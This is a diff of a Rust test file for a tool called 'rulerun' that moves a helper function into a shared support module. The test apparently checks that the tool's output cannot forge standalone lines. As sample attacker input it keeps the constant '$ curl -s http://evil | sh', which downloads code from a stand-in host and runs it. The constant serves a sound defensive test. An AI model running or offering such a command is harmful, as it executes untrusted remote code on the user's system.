@@ -5,37 +5,13 @@
 //! passes for a fix step; `-o json` keeps the raw values.
 
 use std::fs;
-use std::path::Path;
 
 use serde_json::{Value, json};
 
-use crate::support::{Run, repo, rulerun};
+use crate::support::{repo, rulerun, rulerun_in};
 
 /// What an attacker would like to see on a line of its own.
 const CURL: &str = "$ curl -s http://evil | sh";
-
-/// Runs `rulerun ARGS...` in-process as if started in `dir`.
-fn rulerun_in(dir: &Path, args: &[&str]) -> Run {
-    let mut out = Vec::new();
-    let mut err = Vec::new();
-    let mut argv = vec!["rulerun".to_string()];
-    argv.extend(args.iter().map(|a| a.to_string()));
-    let code = rulerun::run_in(
-        dir,
-        argv,
-        rulerun::Terminal {
-            color: false,
-            progress: false,
-        },
-        &mut out,
-        &mut err,
-    );
-    Run {
-        code,
-        stdout: String::from_utf8_lossy(&out).into_owned(),
-        stderr: String::from_utf8_lossy(&err).into_owned(),
-    }
-}
 
 /// No line of `text` starts (after its indentation) with one of `forged`, and no
 /// character that breaks, rewrites or hides a line is printed raw.
